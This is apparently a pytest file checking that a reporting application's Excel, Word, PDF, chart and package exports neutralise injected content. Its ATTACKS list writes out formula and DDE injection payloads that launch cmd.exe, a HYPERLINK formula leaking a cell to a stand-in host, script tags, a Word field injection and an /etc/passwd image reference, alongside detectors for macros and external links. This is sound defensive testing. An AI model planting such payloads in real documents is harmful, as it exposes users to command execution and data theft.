"""Nothing that is written can do anything: no formula of the user's, no macro, no link, no field that fetches."""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from itertools import cycle
from pathlib import Path
from xml.etree import ElementTree

import pytest

from desktop.domain.facts import FactSheet
from desktop.domain.keys import FactKey
from desktop.domain.template import LABEL
from desktop.exchange.document.charts import ChartData, ChartGroup, three_public_chart, to_svg
from desktop.exchange.docx_out.writer import docx_bytes
from desktop.exchange.excel_out.findings_list import KIND as FINDINGS
from desktop.exchange.excel_out.history_list import KIND as HISTORY
from desktop.exchange.excel_out.list_sheet import ListKind, list_bytes
from desktop.exchange.excel_out.writer import workbook_bytes
from desktop.exchange.export_job import ExportJob
from desktop.exchange.exporters import EXPORTERS
from desktop.exchange.package.writer import package_file
from desktop.exchange.read_text.any_file import read_text
from desktop.resource_files.sample import sample_reports
from desktop.resource_files.templates import load_templates
from tests.places import RESOURCES

SAMPLE = max(sample_reports(RESOURCES), key=lambda report: report.year)
JOB = ExportJob(load_templates(RESOURCES), SAMPLE.facts, SAMPLE.year, SAMPLE.system, RESOURCES, False)
TEXTS = ("text", "longtext", "date")
ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/?x="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "{=1+1}",
    "<script>alert(1)</script>",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    '</w:t></w:r><w:fldSimple w:instr="DDEAUTO a b"/>',
)
_SHEET = re.compile(r"'(?:[^']|'')*'!")
_WRITTEN = re.compile(r"<f\b[^>]*>(.*?)</f>", re.DOTALL)


def attacked() -> dict[FactKey, str]:
    """The sample with every text, name and heading replaced, in turn by each of the attacks."""
    sheet, attacks = FactSheet(JOB.templates, JOB.facts, JOB.year), cycle(ATTACKS)
    facts = dict(JOB.facts)
    for key in facts:
        column = sheet.column(key)
        if key.column == LABEL or (column is not None and column.kind in TEXTS):
            facts[key] = next(attacks)
    own = [(FactKey("headings", f"own:{n}", "title"), attack) for n, attack in enumerate(ATTACKS)]
    own += [(FactKey("headings", f"own:{n}", "level"), "1") for n, _ in enumerate(ATTACKS)]
    own += [(FactKey("narrative", f"own:{n}", "text"), attack) for n, attack in enumerate(ATTACKS)]
    own += [(FactKey("paper", "this", "addressee"), ATTACKS[0])]
    return {**facts, **dict(own), FactKey("unit", "this", "name"): ATTACKS[0]}


def parts(data: bytes) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            part = package.read(name)
            if name.endswith(
                (".xlsx", ".docx")
            ):  # the workbook behind a chart, or a part of a report package
                yield from ((f"{name}/{inner}", text) for inner, text in parts(part))
            else:
                yield name, part.decode("utf-8", "replace")


MARKS = re.compile(
    "vbaproject|externallink|connection|querytable|activex|oleobject|macrosheet|embeddings/ole", re.I
)
ACTING = {
    "hyperlink",
    "ddeLink",
    "oleLink",
    "control",
    "OLEObject",
    "webPublishing",
    "altChunk",
    "externalReference",
}
HARMLESS = re.compile(r"\s*(PAGE|NUMPAGES)\b")


def dangers(data: bytes) -> list[str]:
    """What an office program would act on, by the part it stands in."""
    return [f"{name}: {said}" for name, text in parts(data) for said in _in_part(name, text)]


def _in_part(name: str, text: str) -> Iterator[str]:
    if MARKS.search(name):
        yield "by its name"
    if not name.endswith((".xml", ".rels")):
        return
    for element in ElementTree.fromstring(text.encode()).iter():
        tag = element.tag.rpartition("}")[2]
        given = {attribute.rpartition("}")[2]: value for attribute, value in element.attrib.items()}
        field = (
            given.get("instr", "") if tag == "fldSimple" else element.text or "" if tag == "instrText" else ""
        )
        if tag in ACTING or (field and not HARMLESS.match(field)):
            yield f"{tag} {field}"
        if tag == "Relationship" and (given.get("TargetMode") == "External" or MARKS.search(str(given))):
            yield str(given)


def users_formulas(data: bytes) -> list[str]:
    """Formulas of a workbook that hold anything of what was typed but as the name of a sheet."""
    cores = [re.split("['\"]", attack.strip().lstrip("=+-@{"))[0] for attack in ATTACKS]
    written = (f for name, text in parts(data) if "sheet" in name for f in _WRITTEN.findall(text))
    bare = (_SHEET.sub("", html.unescape(formula)) for formula in written)
    return [formula for formula in bare if any(core in formula for core in cores)]


def told(data: bytes) -> Counter[str]:
    """How many cells show each attack, each as a text that stays one when somebody edits the cell."""
    from openpyxl import load_workbook

    found = Counter[str]()
    for sheet in load_workbook(io.BytesIO(data)):
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.data_type != "f"):
            if isinstance(cell.value, str):
                if cell.value.startswith(("=", "+", "-", "@", "\t")):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                found.update(attack for attack in ATTACKS if attack.replace("\r", "\n").strip() in cell.value)
    return found


def test_a_workbook_shows_what_was_typed_and_calculates_only_its_own() -> None:
    sheet = FactSheet(JOB.templates, attacked(), JOB.year)
    data = workbook_bytes(sheet, JOB.templates.systems[JOB.system_id])
    assert set(told(data)) == set(ATTACKS)
    assert users_formulas(data) == dangers(data) == []


@pytest.mark.parametrize("kind", [FINDINGS, HISTORY], ids=["findings", "history"])
def test_a_list_shows_what_was_typed(kind: ListKind) -> None:
    data = list_bytes(kind, ATTACKS[0], [[attack] * len(kind.heads) for attack in ATTACKS])
    assert set(told(data)) == set(ATTACKS)
    assert "<f>" not in "".join(text for _, text in parts(data))
    assert dangers(data) == []


def test_a_word_file_holds_no_field_but_page_numbers() -> None:
    document = replace(JOB, facts=attacked()).document()
    data, _ = docx_bytes(document.blocks, title=document.title, author=document.author)
    assert dangers(data) == []
    said = html.unescape(dict(parts(data))["word/document.xml"])
    assert all(attack.strip() in said for attack in ATTACKS)


def test_a_pdf_and_its_charts_print_markup_as_it_was_typed(tmp_path: Path) -> None:
    markup = "<b>x</b><img src='file:///etc/passwd'/>&amp;<para>"
    facts = {**JOB.facts, FactKey("narrative", "performance", "text"): markup}
    EXPORTERS["pdf"].run(tmp_path / "a.pdf", replace(JOB, facts=facts))
    assert markup in "".join(read_text(tmp_path / "a.pdf").split("\n"))
    data = ChartData(markup, markup, (markup, markup), (ChartGroup(markup, (Decimal(1), Decimal(2))),))
    svg = to_svg(three_public_chart(data)).decode()
    tags = {element.tag.rpartition("}")[2] for element in ElementTree.fromstring(svg).iter()}
    assert not tags & {"b", "img", "image", "para", "script", "a"}
    assert "&lt;b&gt;" in svg


def test_a_package_holds_nothing_that_acts() -> None:
    data, _ = package_file(replace(JOB, facts=attacked(), findings=[[ATTACKS[0]] * 6]))
    assert dangers(data) == []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        pdf = package.read("自评报告.pdf")
    assert not re.search(rb"/(?:JavaScript|JS|Launch|URI|EmbeddedFile|AA)\b", pdf)


def test_the_search_finds_what_it_looks_for() -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = ATTACKS[0]
    sheet["A2"].hyperlink = "http://a.example"
    stream = io.BytesIO()
    book.save(stream)
    assert users_formulas(stream.getvalue())
    assert len(dangers(stream.getvalue())) >= 2
    word = io.BytesIO()
    with zipfile.ZipFile(word, "w") as package:
        fields = '<a><fldSimple instr=" DDEAUTO a"/><instrText> INCLUDETEXT x</instrText></a>'
        package.writestr("word/document.xml", fields)
        package.writestr("word/vbaProject.bin", "")
    assert len(dangers(word.getvalue())) == 3
